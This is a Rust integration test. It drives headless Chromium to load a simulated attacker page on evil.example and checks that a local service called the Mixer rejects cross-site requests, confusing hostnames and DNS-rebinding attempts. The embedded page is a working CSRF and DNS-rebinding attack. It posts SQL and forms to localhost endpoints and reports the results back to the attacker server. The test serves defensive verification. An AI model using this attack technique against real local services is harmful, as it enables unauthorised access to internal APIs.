//! A real browser (Chromium) that shows a page of another site to somebody who works at the Mixer's machine: DNS rebinding, cross-site
//! requests, confusing hosts. Nothing gets through, neither to the API nor to `http_in`.
//!
//! The page's server is the attacker's: it serves the page, and afterwards passes connections on to the door that the page asks for, as a name
//! does that was rebound to this machine.
//!
//! Not here: the rules of the guard (`chassis::host_guard`). `make browser` runs this; Chromium must be installed.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use harness::{Failure, TestRack, eventually};

use crate::first_light::mixer_with;

const SOON: Duration = Duration::from_secs(90);
const SCENARIO: &str = "meta: { name: door, version: '1' }\nracks: [ { name: rack-a } ]\ngears:\n  \
                        - { name: door, type: http_in, deploy: rack-a, config: { listen: '127.0.0.1:0' } }\n  \
                        - { name: sink, type: log_sink, deploy: rack-a }\nwires: [ { from: door.out, to: sink.in } ]\n";

/// What the page tries; each line of its report is an attempt and what became of it.
const PAGE: &str = r#"<!doctype html><title>prizes</title><iframe name="hidden"></iframe><script>
const [api, door] = ["http://127.0.0.1:@API", "http://127.0.0.1:@DOOR"];
const report = [];
async function attempt(name, asked) {
  try {
    const answer = await asked();
    const text = await answer.text();
    report.push(`${name}: ${answer.type} ${answer.status} ${text.slice(0, 200)}`);
  } catch (error) { report.push(`${name}: ${error.name}`); }
}
const post = (url, type, mode) => () => fetch(url, { method: "POST", mode, headers: { "Content-Type": type }, body: '{"text":"SELECT 1"}' });
(async () => {
  await attempt("read the API", () => fetch(api + "/api/v1/racks"));
  await attempt("read the API blindly", () => fetch(api + "/api/v1/racks", { mode: "no-cors" }));
  await attempt("SQL as text", post(api + "/api/v1/sql", "text/plain", "no-cors"));
  await attempt("SQL as JSON", post(api + "/api/v1/sql", "application/json", "cors"));
  await attempt("ingest", post(api + "/api/v1/ingest/logs", "text/plain", "no-cors"));
  await attempt("message", post(door + "/", "text/plain", "no-cors"));
  await attempt("message with CORS", post(door + "/", "text/plain", "cors"));
  for (const host of ["localhost.evil.example", "127.0.0.1.evil.example", "evil.example"]) {
    await attempt("confusing host " + host, () => fetch(`http://${host}:@API/api/v1/racks`, { mode: "no-cors" }));
    await attempt("message to " + host, post(`http://${host}:@DOOR/`, "text/plain", "no-cors"));
  }
  for (const action of [api + "/api/v1/ingest/logs", door + "/"]) {
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action, target: "hidden", enctype: "text/plain" });
    form.innerHTML = '<input name="order" value="1">';
    document.body.append(form);
    form.submit();
    await new Promise(done => document.querySelector("iframe").addEventListener("load", done, { once: true }));
  }
  // The name leads to the API now, then to the gear: same origin for the browser.
  await fetch("/rebind/@API", { method: "POST" });
  await attempt("rebound API", () => fetch("/api/v1/racks"));
  await attempt("rebound SQL", post("/api/v1/sql", "application/json", "same-origin"));
  await fetch("/rebind/@DOOR", { method: "POST" });
  await attempt("rebound message", post("/", "text/plain", "same-origin"));
  await fetch("/report", { method: "POST", body: report.join("\n") });
})();
</script>"#;

/// The attacker's server.
struct AttackerServer {
    port: u16,
    report: Receiver<String>,
}

impl AttackerServer {
    fn start(page: String) -> Result<Self, Failure> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let port = listener.local_addr()?.port();
        let (tell, report) = channel();
        std::thread::spawn(move || {
            let (page, leads_to) = (Arc::<str>::from(page), Arc::new(Mutex::new(None)));
            while let Ok((stream, _)) = listener.accept() {
                let (page, leads_to, tell) = (Arc::clone(&page), Arc::clone(&leads_to), tell.clone());
                // Who breaks off comes again; a browser opens connections that it may need.
                std::thread::spawn(move || serve(stream, &page, &leads_to, &tell).ok());
            }
        });
        Ok(Self { port, report })
    }
}

/// Answers one request, or passes it on to where the name leads now.
fn serve(stream: TcpStream, page: &str, leads_to: &Mutex<Option<u16>>, tell: &Sender<String>) -> Result<(), Failure> {
    stream.set_read_timeout(Some(Duration::from_secs(5)))?;
    let mut reader = BufReader::new(stream.try_clone()?);
    let (mut head, mut length) = (String::new(), 0);
    while !head.ends_with("\r\n\r\n") {
        let begun = head.len();
        if reader.read_line(&mut head)? == 0 {
            return Ok(());
        }
        if let Some(("content-length", value)) = head[begun..].to_ascii_lowercase().trim_end().split_once(": ") {
            length = value.parse()?;
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body)?;
    let path = head.split(' ').nth(1).unwrap_or_default();
    let mut leads_to = leads_to.lock().map_err(|error| error.to_string())?;
    let text = match (path, *leads_to) {
        ("/report", _) => {
            tell.send(String::from_utf8(body)?)?;
            ""
        }
        (path, _) if path.starts_with("/rebind/") => {
            *leads_to = Some(path.trim_start_matches("/rebind/").parse()?);
            ""
        }
        (_, Some(port)) => {
            let mut door = TcpStream::connect(("127.0.0.1", port))?;
            let once = head
                .replacen("\r\n", "\r\nConnection: close\r\n", 1)
                .replace("Connection: keep-alive\r\n", "");
            door.write_all(once.as_bytes())?;
            door.write_all(&body)?;
            let mut answer = Vec::new();
            door.read_to_end(&mut answer)?;
            return Ok((&stream).write_all(&answer)?);
        }
        (_, None) => page,
    };
    let answer = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{text}",
        text.len()
    );
    Ok((&stream).write_all(answer.as_bytes())?)
}

/// A browser for which every name of the attacker's is this machine; it ends with this.
struct BrowserProcess {
    child: Child,
    _profile: tempfile::TempDir,
}

impl BrowserProcess {
    fn show(url: &str) -> Result<Self, Failure> {
        let profile = tempfile::tempdir()?;
        let child = Command::new("chromium")
            .args([
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--no-first-run",
                "--disable-background-networking",
            ])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .arg("--host-resolver-rules=MAP *.evil.example 127.0.0.1, MAP evil.example 127.0.0.1")
            .arg(url)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .map_err(|error| format!("chromium: {error}; install Debian's package chromium"))?;
        Ok(Self {
            child,
            _profile: profile,
        })
    }
}

impl Drop for BrowserProcess {
    fn drop(&mut self) {
        self.child.kill().ok();
        self.child.wait().ok();
    }
}

#[test]
fn a_page_of_another_site_gets_nothing_through_a_real_browser() -> Result<(), Failure> {
    let (mixer, _scenario) = mixer_with(SCENARIO)?;
    let mut rack = TestRack::new("rack-a", &mixer.bus_url, "")?;
    rack.start()?;
    let door = eventually("the door is open", SOON, || {
        let log = rack.log();
        let address = log.split("listening on http://127.0.0.1:").nth(1)?;
        address
            .split(|digit: char| !digit.is_ascii_digit())
            .next()?
            .parse::<u16>()
            .ok()
    })?;
    let api = mixer.api.base.rsplit(':').next().ok_or("no port")?.to_owned();
    let page = PAGE.replace("@API", &api).replace("@DOOR", &door.to_string());
    let attacker = AttackerServer::start(page)?;
    let browser = BrowserProcess::show(&format!("http://evil.example:{}/", attacker.port))?;
    let report = attacker.report.recv_timeout(SOON)?;
    drop(browser);
    println!("{report}");
    let came_of = |attempt: &str| {
        let line = report.lines().find(|line| line.starts_with(&format!("{attempt}: ")));
        line.unwrap_or_else(|| panic!("{attempt} was not tried:\n{report}"))
            .to_owned()
    };
    // What a page may not read is an error or opaque to it; what it may read says that it was refused.
    for blocked in ["read the API", "SQL as JSON", "message with CORS"] {
        assert!(came_of(blocked).ends_with(": TypeError"), "{report}");
    }
    for rebound in ["rebound API", "rebound SQL", "rebound message"] {
        assert!(came_of(rebound).contains(" 421 "), "{report}");
    }
    for line in report.lines() {
        assert!(!line.contains(" 200 ") && !line.contains(" 202 "), "{line}");
    }
    // All of it came as far as the doors, and nothing further.
    let refused = eventually("refused calls in the audit log", SOON, || {
        let rows = mixer.api.rows("/api/v1/audit?kind=call_refused").ok()?;
        (rows.len() >= 5).then_some(rows)
    })?;
    let why = |row: &serde_json::Map<String, serde_json::Value>| row["why"].as_str().unwrap_or_default().to_owned();
    let whys: Vec<_> = refused.iter().map(why).collect();
    for part in [
        "unknown_host",
        "POST /api/v1/sql",
        "POST /api/v1/ingest/logs",
        "GET /api/v1/racks",
    ] {
        assert!(whys.iter().any(|why| why.contains(part)), "{part}: {whys:?}");
    }
    // Who is no page comes through, alone.
    let honest = ureq::post(format!("http://127.0.0.1:{door}/")).send("SELECT honestly")?;
    assert_eq!(honest.status().as_u16(), 202);
    let logs = || mixer.api.rows("/api/v1/telemetry/logs?gear_id=sink&q=SELECT");
    eventually("the honest message", SOON, || {
        logs().ok().filter(|rows| !rows.is_empty())
    })?;
    assert_eq!(logs()?.len(), 1, "{:?}", logs()?);
    Ok(())
}
